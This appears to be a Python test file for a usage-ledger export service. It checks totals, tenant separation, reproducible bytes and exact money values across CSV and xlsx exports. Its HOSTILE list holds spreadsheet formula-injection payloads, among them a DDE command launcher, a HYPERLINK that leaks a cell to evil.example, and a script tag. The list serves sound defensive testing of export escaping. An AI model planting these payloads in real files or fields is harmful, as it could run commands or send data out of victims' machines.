"""Exports: rows and figures that are those of the ledger, in files that others can read."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import threading
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from itertools import pairwise
from typing import Any
from uuid import UUID

import openpyxl
import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.db import connection, transaction
from django.db.transaction import TransactionManagementError
from openpyxl.utils.escape import unescape

from budgets import usage
from budgets.archives import ENTRIES
from budgets.exports import PROFILES, Order, Writing, as_text, estimate, sha256_of, totals_of, workbooks
from budgets.exports.jobs import fitting
from budgets.models import ArchivedMonth, LedgerEntry
from budgets.usage import FIGURES, Selection
from tenants.models import Tenant
from tenants.services import create_tenant
from tenants.spreadsheets import DANGEROUS
from tests.exporting import KEY, OCTOBER, an_entry, an_order, rows_of, written

pytestmark = pytest.mark.django_db(transaction=True)

TEAM, MEMBER = UUID(int=7), UUID(int=8)
SPREADSHEETS = [
    {"separator": separator, "decimal_comma": comma}
    for separator in ("comma", "semicolon", "tab")
    for comma in (False, True)
]


@pytest.fixture
def globex(transactional_db: None) -> Tenant:
    return create_tenant(slug="globex", name="Globex", actor="test", time_zone="America/New_York")


def some_usage(acme: Tenant) -> None:
    """Entries of two keys, models, teams and days, estimated ones and a difference among them."""
    other = UUID(int=9)
    an_entry(acme, team_id=TEAM, team="research", member_id=MEMBER, member="ada")
    an_entry(acme, cached_tokens=30, thinking_tokens=5, exact=False, estimator="learned:3", run="nightly")
    an_entry(acme, key_id=other, key="bob's key", model="qwen3:8b", day=date(2026, 10, 16))
    an_entry(acme, model="tiny:1b", price=None, gpu_ms=0)
    an_entry(
        acme, kind="adjustment", requests=0, input_tokens=-40, output_tokens=7, gpu_ms=-3, cost_micro_usd=-5
    )
    an_entry(acme, day=OCTOBER[1])
    an_entry(acme, day=date(2026, 9, 30))


def xlsx_rows(content: bytes) -> list[dict[str, Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    head, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in rows]


@pytest.mark.parametrize("profile", PROFILES)
def test_what_rows_add_up_to_is_what_the_ledger_says(acme: Tenant, profile: str) -> None:
    some_usage(acme)
    order = an_order(acme, profile)

    found, _ = totals_of(order)

    expected = usage.totals(order.selection)
    assert expected["estimated_tokens"] == 150
    assert found == {figure: expected[figure] for figure in found}
    assert set(found) >= {"input_tokens", "cached_tokens", "output_tokens", "gpu_ms", "cost_micro_usd"}
    assert set(found) == set(FIGURES) or profile == "focus"


@pytest.mark.parametrize("profile", ["day", "key", "model", "team"])
def test_sums_are_those_of_pages_and_answers_line_by_line(acme: Tenant, profile: str) -> None:
    some_usage(acme)
    order = an_order(acme, profile)

    rows = rows_of(order)

    parts = usage.by_part(order.selection, profile)
    told = sorted([row[profile], *(int(row[figure]) for figure in FIGURES)] for row in rows)
    assert told == sorted([part[profile], *(part[figure] for figure in FIGURES)] for part in parts)
    assert len(rows) > 1
    assert sum(int(row["entries"]) for row in rows) == 5


def test_what_was_renamed_is_one_row_with_its_last_name(acme: Tenant) -> None:
    an_entry(acme, key="z, as it was called first")
    an_entry(acme, key="a, as it is called now", member="ada")

    [row] = rows_of(an_order(acme, "key"))

    assert (row["key"], row["member"]) == ("a, as it is called now", "ada")
    assert row["entries"] == "2"


def test_a_row_of_a_request_has_all_that_explains_its_cost(acme: Tenant) -> None:
    entry = an_entry(
        acme,
        team_id=TEAM,
        team="research",
        first_byte_at=datetime(2026, 10, 15, 11, 59, 59, 250_000, tzinfo=UTC),
        ended_at=datetime(2026, 10, 15, 12, 0, 0, 1, tzinfo=UTC),
        exact=False,
        estimator="learned:3",
        late=True,
    )

    [row] = rows_of(an_order(acme))

    assert row == {
        "request_id": str(entry.request_id),
        "kind": "usage",
        "day": "2026-10-15",
        "time_zone": "Europe/Berlin",
        "closed_month": "",
        "admitted_at": "2026-10-15T11:59:58.000001Z",
        "started_at": "",
        "first_byte_at": "2026-10-15T11:59:59.250000Z",
        "ended_at": "2026-10-15T12:00:00.000001Z",
        "tenant_id": str(acme.pk),
        "tenant": "acme",
        "team_id": str(TEAM),
        "team": "research",
        "member_id": "",
        "member": "",
        "key_id": str(KEY),
        "key": "ada's key",
        "model": "llama3.2:latest",
        "upstream": "main",
        "route": "chat",
        "operation": "chat",
        "dialect": "OLLAMA",
        "run": "",
        "stream": "true",
        "outcome": "completed",
        "status": "200",
        "requests": "1",
        "input_tokens": "100",
        "cached_tokens": "0",
        "output_tokens": "50",
        "thinking_tokens": "0",
        "estimated_tokens": "150",
        "gpu_ms": "900",
        # 100 at 0.3, 50 at 1 and 0.9 s at 25 micro-USD, rounded up once.
        "cost_micro_usd": "103",
        "cost_usd": "0.000103",
        "price_id": str(entry.price_id),
        "input_price": "300000",
        "cached_price": "30000",
        "output_price": "1000000",
        "gpu_price": "25",
        "exact": "false",
        "estimator": "learned:3",
        "late": "true",
        "on_credit": "false",
        "corrects": "",
        "reason": "",
        "actor": "",
    }


def test_a_correction_says_what_it_corrects_who_and_why(acme: Tenant) -> None:
    wrong = an_entry(acme, day=date(2026, 9, 15))
    an_entry(
        acme,
        kind="correction",
        corrects=wrong.request_id,
        closed_month=date(2026, 9, 1),
        actor="olga",
        reason="counted twice",
        requests=-1,
        input_tokens=-100,
        output_tokens=-50,
        gpu_ms=-900,
        cost_micro_usd=-103,
    )

    [row] = rows_of(an_order(acme))

    assert (row["kind"], row["corrects"]) == ("correction", str(wrong.request_id))
    assert (row["closed_month"], row["actor"], row["reason"]) == ("2026-09-01", "olga", "counted twice")
    assert (row["cost_micro_usd"], row["cost_usd"]) == ("-103", "-0.000103")


def test_days_are_half_open_and_neighbours_share_nothing(acme: Tenant) -> None:
    for day in (date(2026, 9, 30), date(2026, 10, 1), date(2026, 10, 31), date(2026, 11, 1)):
        an_entry(acme, day=day)
    months = [date(2026, month, 1) for month in (9, 10, 11, 12)]

    days = [
        [row["day"] for row in rows_of(an_order(acme, from_day=first, before_day=after))]
        for first, after in pairwise(months)
    ]

    assert days == [["2026-09-30"], ["2026-10-01", "2026-10-31"], ["2026-11-01"]]


def test_one_tenant_gets_nothing_of_another_and_all_is_both(acme: Tenant, globex: Tenant) -> None:
    an_entry(acme)
    an_entry(globex)

    whose = {
        name: [row["tenant"] for row in rows_of(an_order(of))] for name, of in (("acme", acme), ("all", None))
    }

    assert whose == {"acme": ["acme"], "all": ["acme", "globex"]}
    zones = written(an_order(None))[1]["range"]["time_zones"]
    assert zones == {"acme": ["Europe/Berlin"], "globex": ["America/New_York"]}
    assert [row["time_zone"] for row in rows_of(an_order(None))] == ["Europe/Berlin", "America/New_York"]


def test_rows_come_in_the_order_of_days_and_ends_of_calls(acme: Tenant) -> None:
    hours = [13, 9, 21, 9]
    for hour in hours:
        an_entry(acme, ended_at=datetime(2026, 10, 15, hour, tzinfo=UTC), key=str(hour))
    an_entry(acme, day=date(2026, 10, 2), key="earlier day")

    rows = rows_of(an_order(acme))

    assert [row["key"] for row in rows] == ["earlier day", "9", "9", "13", "21"]
    with_same_end = list(LedgerEntry.objects.filter(key="9").order_by("id"))
    assert [row["request_id"] for row in rows[1:3]] == [str(entry.request_id) for entry in with_same_end]


HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "-1",
    "-2+3+cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\v=1",
    "\f=1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM",
    "'=1+1",
    "'",
    "''",
    "",
    "plain",
    'say "hi"',
    '"',
    '""quoted""',
    "a,b;c\td",
    "line\nbreak",
    "line\r\nbreak\r",
    "\\N",
    "\\.",
    "NULL",
    "null",
    "ünïcödé 日本 🦙",
    "\u202eevil",
    "<script>alert(1)</script>",
    "1e5",
    "0042",
    "x" * 5_000,
]


@pytest.mark.parametrize("options", [{}, *({"layout": "spreadsheet", **one} for one in SPREADSHEETS)])
def test_no_text_becomes_a_formula_and_all_is_read_back(acme: Tenant, options: dict[str, Any]) -> None:
    for number, text in enumerate(HOSTILE):
        an_entry(acme, key=text, model=text, run=text, ended_at=datetime(2026, 10, 15, 1, number, tzinfo=UTC))

    rows = rows_of(an_order(acme, **options))

    for column in ("key", "model", "run"):
        cells = [row[column] for row in rows]
        assert [cell[1:] if cell[:1] == "'" else cell for cell in cells] == HOSTILE
        assert all(cell[:1] not in {chr(code) for code in DANGEROUS if chr(code) != "'"} for cell in cells)
        assert [text for text, cell in zip(HOSTILE, cells, strict=True) if text != cell] == HOSTILE[:20]


@pytest.mark.parametrize("profile", ["key", "model", "focus"])
def test_sums_guard_names_too(acme: Tenant, profile: str) -> None:
    for text in HOSTILE:
        an_entry(acme, key=text, model=text)

    rows = rows_of(an_order(acme, profile))

    dangerous = {chr(code) for code in DANGEROUS} - {"'"}
    texts = [column.name for column in PROFILES[profile].columns if column.kind == "text"]
    assert [row[name] for row in rows for name in texts if row[name][:1] in dangerous] == []


def test_a_workbook_has_text_as_text_and_numbers_as_numbers(acme: Tenant) -> None:
    for number, text in enumerate(HOSTILE):
        an_entry(acme, key=text, ended_at=datetime(2026, 10, 15, 1, number, tzinfo=UTC))
    content, sidecar = written(an_order(acme, layout="xlsx"))

    rows = xlsx_rows(content)

    assert len(rows) == sidecar["rows"] == len(HOSTILE)
    # XML cannot have control characters; spreadsheets write and read them like this.
    cells = [unescape(row["key"] or "") for row in rows]
    assert [cell[1:] if cell[:1] == "'" else cell for cell in cells] == HOSTILE
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    kinds = {cell.column_letter: cell.data_type for cell in sheet[2] if cell.value is not None}
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert set(kinds.values()) == {"s", "n", "b", "d"}
    assert (rows[0]["cost_micro_usd"], rows[0]["cost_usd"]) == (103, 0.000103)
    assert (rows[0]["day"], rows[0]["stream"]) == (datetime(2026, 10, 15), True)  # noqa: DTZ001
    assert rows[0]["ended_at"] == "2026-10-15T01:00:00.000000Z"


MONEY = [
    0,
    1,
    -1,
    22,
    999_999,
    1_000_000,
    -1_000_001,
    1_234_567_890,
    10**15 + 1,
    123_456_789_012_345_678,
    9 * 10**18,
    -(9 * 10**18),
]


@pytest.mark.parametrize("layout", ["csv", "spreadsheet", "xlsx"])
def test_money_is_exact_in_both_of_its_columns(acme: Tenant, layout: str) -> None:
    for number, cost in enumerate(MONEY):
        an_entry(
            acme,
            kind="adjustment",
            cost_micro_usd=cost,
            ended_at=datetime(2026, 10, 15, 1, number, tzinfo=UTC),
        )

    if layout == "xlsx":
        rows = xlsx_rows(written(an_order(acme, layout="xlsx"))[0])
        # A cell is good for 15 digits; what has more is kept as text.
        assert [Decimal(str(row["cost_micro_usd"])) for row in rows] == MONEY
        assert [round(Decimal(str(row["cost_usd"])) * 10**6) for row in rows] == MONEY
    else:
        comma = layout == "spreadsheet"
        texts = rows_of(an_order(acme, layout=layout, decimal_comma=comma))
        assert [int(row["cost_micro_usd"]) for row in texts] == MONEY
        point = "," if comma else "."
        assert [row["cost_usd"].partition(point)[1:][1].__len__() for row in texts] == [6] * len(MONEY)
        assert [int(row["cost_usd"].replace(point, "")) for row in texts] == MONEY
        assert texts[7]["cost_usd"] == f"1234{point}567890"


def test_plain_csv_is_that_of_rfc_4180(acme: Tenant) -> None:
    an_entry(acme, key="line\nbreak", run='say "hi"')

    content, _ = written(an_order(acme))

    assert content.startswith(b"request_id,kind,day,")
    assert content.endswith(b"\r\n")
    assert b'"line\nbreak"' in content
    assert b'"say ""hi"""' in content
    assert content.count(b"\r\n") == 2


def test_a_spreadsheet_has_its_mark_separator_and_comma(acme: Tenant) -> None:
    an_entry(acme)

    content, _ = written(
        an_order(acme, "day", layout="spreadsheet", separator="semicolon", decimal_comma=True)
    )

    head, row, _ = content.decode().split("\r\n")
    assert head.startswith("\ufefftenant_id;tenant;day;time_zone;entries;requests;")
    assert row.endswith(";103;0,000103")


def test_nothing_used_is_a_head_and_a_sidecar_of_zeros(acme: Tenant) -> None:
    for profile in PROFILES:
        content, sidecar = written(an_order(acme, profile))

        assert content.decode().count("\r\n") == 1
        assert sidecar["rows"] == 0
        assert sidecar["totals"] == dict.fromkeys(FIGURES, 0)
    assert xlsx_rows(written(an_order(acme, layout="xlsx"))[0]) == []


def test_nothing_in_a_file_or_its_sidecar_counts_what_others_use(acme: Tenant, globex: Tenant) -> None:
    an_entry(acme)
    orders = [an_order(acme, profile) for profile in PROFILES]
    before = [written(order) for order in orders]
    for _ in range(3):
        an_entry(globex)

    after = [written(order) for order in orders]

    for _, sidecar in before + after:
        del sidecar["as_of"]["at"]
    assert after == before


def test_the_sidecar_says_what_the_file_is(acme: Tenant) -> None:
    some_usage(acme)
    newest = an_entry(acme)
    an_entry(acme, day=date(2026, 11, 2))
    order = an_order(acme, gzip=True)

    content, sidecar = written(order)

    at = datetime.fromisoformat(sidecar["as_of"].pop("at"))
    assert abs((at - datetime.now(UTC)).total_seconds()) < 60
    assert sidecar == {
        "tollgate": "0.1.0",
        "file": "acme-requests-2026-10-01-before-2026-11-01.csv.gz",
        "tenant": "acme",
        "order": {
            "profile_name": "requests",
            "layout": "csv",
            "separator": "comma",
            "decimal_comma": False,
            "gzip": True,
        },
        "range": {
            "from_day": "2026-10-01",
            "before_day": "2026-11-01",
            "time_zones": {"acme": ["Europe/Berlin"]},
        },
        "selection": {"tenant_id": str(acme.pk)},
        "columns": [column.name for column in PROFILES["requests"].columns],
        "totals": usage.totals(order.selection),
        "as_of": {
            "newest_request": str(newest.request_id),
            "newest_kind": "usage",
            "booked_at": newest.recorded_at.isoformat(),
        },
        "rows": 6,
        "bytes": len(content),
        "sha256": hashlib.sha256(content).hexdigest(),
    }
    assert json.loads(as_text(sidecar)) == sidecar


LAYOUTS = [
    pytest.param({}, id="csv"),
    pytest.param({"gzip": True}, id="gzip"),
    pytest.param(
        {"layout": "spreadsheet", "separator": "semicolon", "decimal_comma": True}, id="spreadsheet"
    ),
    pytest.param({"layout": "xlsx"}, id="xlsx"),
]


@pytest.mark.parametrize("options", LAYOUTS)
@pytest.mark.parametrize("profile", PROFILES)
def test_the_same_order_gives_the_same_bytes(acme: Tenant, profile: str, options: dict[str, Any]) -> None:
    some_usage(acme)
    order = an_order(acme, profile, **options)
    first, sidecar = written(order)
    # Neither another day's calls nor another time, here or on the server, are seen in it.
    an_entry(acme, day=date(2026, 11, 2))
    with connection.cursor() as cursor, time_machine.travel(datetime(2031, 5, 6, 7, 8, tzinfo=UTC)):
        cursor.execute("SET TimeZone = 'Asia/Tokyo'")
        second, _ = written(order)
        cursor.execute("SET TimeZone = 'UTC'")

    assert second == first
    assert sha256_of(order) == sidecar["sha256"] == hashlib.sha256(first).hexdigest()


def test_gzip_holds_the_same_csv(acme: Tenant) -> None:
    some_usage(acme)

    plain, packed = (written(an_order(acme, gzip=packed))[0] for packed in (False, True))

    assert gzip.decompress(packed) == plain
    # Neither time nor name: bytes 4 to 8 of the head.
    assert packed[3:8] == bytes(5)


def test_rows_totals_and_count_are_of_one_moment(acme: Tenant, monkeypatch: pytest.MonkeyPatch) -> None:
    """Between the sums and the rows somebody books a call."""
    an_entry(acme)
    profile = PROFILES["requests"]

    def book_and_query(*arguments: Any) -> Any:
        booking = threading.Thread(target=book)
        booking.start()
        booking.join()
        return profile.query(*arguments)

    def book() -> None:
        an_entry(acme)
        connection.close()

    monkeypatch.setitem(PROFILES, "requests", replace(profile, query=book_and_query))

    _, sidecar = written(an_order(acme))

    assert LedgerEntry.objects.count() == 2
    assert sidecar["rows"] == sidecar["totals"]["requests"] == 1


def test_an_export_uses_the_view_of_a_repeatable_transaction_and_no_other(acme: Tenant) -> None:
    an_entry(acme)

    with transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ")
        assert totals_of(an_order(acme))[0]["requests"] == 1
    with pytest.raises(TransactionManagementError), transaction.atomic():
        totals_of(an_order(acme))


def test_whoever_stops_reading_stops_the_database_too(acme: Tenant) -> None:
    with connection.cursor() as cursor:
        cursor.execute("SELECT pg_backend_pid()")
        [pid] = cursor.fetchone()
    for number in range(200):
        an_entry(acme, key="x" * 20_000, run=str(number))
    pieces = iter(Writing(an_order(acme)))
    assert next(pieces)

    pieces.close()

    with connection.cursor() as cursor:
        cursor.execute("SELECT pg_backend_pid()")
        assert cursor.fetchone() == (pid,)
    assert len(rows_of(an_order(acme))) == 200


def test_a_workbook_that_is_too_long_is_refused_and_never_cut(
    acme: Tenant, monkeypatch: pytest.MonkeyPatch
) -> None:
    for _ in range(3):
        an_entry(acme)
    monkeypatch.setattr(workbooks, "MOST_ROWS", 3)
    assert written(an_order(acme, layout="xlsx"))[1]["rows"] == 3
    monkeypatch.setattr(workbooks, "MOST_ROWS", 2)

    with pytest.raises(ValidationError, match=r"Take CSV, fewer days"):
        written(an_order(acme, layout="xlsx"))


def test_days_whose_entries_are_archived_are_refused_and_never_left_out(acme: Tenant) -> None:
    an_entry(acme)
    ArchivedMonth.objects.create(
        table=ENTRIES,
        month=date(2026, 9, 1),
        file="budgets_ledgerentry_y2026m09.csv.gz",
        sha256="0" * 64,
        rows=1,
        days=[date(2026, 9, 1), date(2026, 10, 2)],
    )

    for refused in (written, fitting):
        with pytest.raises(ValidationError, match=r"y2026m09\.csv\.gz.* of days after 2026-10-02"):
            refused(an_order(acme))

    assert len(rows_of(an_order(acme, from_day=date(2026, 10, 3)))) == 1


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"from_day": None}, "name both"),
        ({"before_day": OCTOBER[0]}, "The range is empty"),
        ({"before_day": date(2026, 9, 1)}, "The range is empty"),
        ({"from_day": date(2006, 1, 1)}, "longer than 3660 days"),
        ({"profile": "everything"}, "none of requests, day"),
        ({"layout": "pdf"}, "none of csv, spreadsheet, xlsx"),
        ({"layout": "spreadsheet", "separator": "pipe"}, "none of comma, semicolon, tab"),
        ({"separator": "tab"}, "for the spreadsheet layout"),
        ({"decimal_comma": True}, "for the spreadsheet layout"),
        ({"layout": "xlsx", "gzip": True}, "compressed already"),
    ],
)
def test_what_cannot_be_made_cannot_be_ordered(changes: dict[str, Any], said: str) -> None:
    with pytest.raises(ValidationError, match=said):
        an_order(None, **changes)


def test_an_order_is_read_back_from_json() -> None:
    selection = Selection(
        tenant_id=UUID(int=1),
        from_day=OCTOBER[0],
        before_day=OCTOBER[1],
        key_id=UUID(int=2),
        model="x",
        run="",
    )
    order = Order(selection, "key", layout="spreadsheet", separator="tab", decimal_comma=True, gzip=True)

    assert Order.from_json(json.loads(json.dumps(order.as_json()))) == order


def fewer(**changes: Any) -> Callable[[Order], Order]:
    return lambda order: replace(order, selection=replace(order.selection, **changes))


@pytest.mark.parametrize(
    ("selected", "entries"),
    [
        pytest.param(fewer(key_id=KEY), 4, id="key"),
        pytest.param(fewer(model="qwen3:8b"), 1, id="model"),
        pytest.param(fewer(team_id=TEAM), 1, id="team"),
        pytest.param(fewer(run="nightly"), 1, id="run"),
        pytest.param(fewer(run=""), 4, id="no run"),
    ],
)
@pytest.mark.parametrize("profile", PROFILES)
def test_parts_of_a_tenants_usage_can_be_exported(
    acme: Tenant, profile: str, selected: Callable[[Order], Order], entries: int
) -> None:
    some_usage(acme)
    order = selected(an_order(acme, profile))

    found, _ = totals_of(order)

    expected = usage.totals(order.selection)
    assert order.selection.entries().count() == entries
    assert found == {figure: expected[figure] for figure in found}


def test_an_estimate_counts_what_is_little_and_guesses_what_is_much(
    acme: Tenant, monkeypatch: pytest.MonkeyPatch
) -> None:
    some_usage(acme)
    order = an_order(acme)

    little = estimate(order)
    monkeypatch.setattr("budgets.exports.sizes.MOST_COUNTED", 2)
    much = estimate(order)

    assert (little.entries, little.rows, little.exact) == (5, 5, True)
    assert not much.exact
    assert much.rows >= 3
    size = len(written(order)[0])
    assert size / 2 < little.bytes < size * 2


@pytest.mark.parametrize("text", ["", "a"])
def test_csv_is_read_by_a_strict_reader_whatever_the_lines_end_with(acme: Tenant, text: str) -> None:
    an_entry(acme, key=f"{text}\r\n{text}\r{text}\n")

    rows = list(csv.reader(io.StringIO(written(an_order(acme))[0].decode(), newline=""), strict=True))

    assert [len(row) for row in rows] == [len(PROFILES["requests"].columns)] * 2
